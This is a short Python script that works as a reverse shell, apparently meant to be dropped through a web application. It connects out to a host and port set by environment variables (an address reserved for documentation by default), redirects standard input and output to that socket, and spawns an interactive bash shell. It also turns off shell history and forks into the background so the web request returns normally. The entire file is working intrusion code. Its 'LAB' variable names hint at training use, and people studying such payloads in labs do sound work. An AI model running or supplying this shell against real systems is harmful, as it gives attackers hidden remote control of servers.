import os
import pty
import socket
import sys

HOST = os.environ.get("LAB_HOST", "192.0.2.15")
PORT = int(os.environ.get("LAB_PORT", "9001"))


def attach(host, port):
    s = socket.create_connection((host, port))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.putenv("HISTFILE", "/dev/null")
    pty.spawn("/bin/bash")


if __name__ == "__main__":
    # detach so that the web worker can answer its request
    if os.fork():
        sys.exit(0)
    os.setsid()
    attach(HOST, PORT)
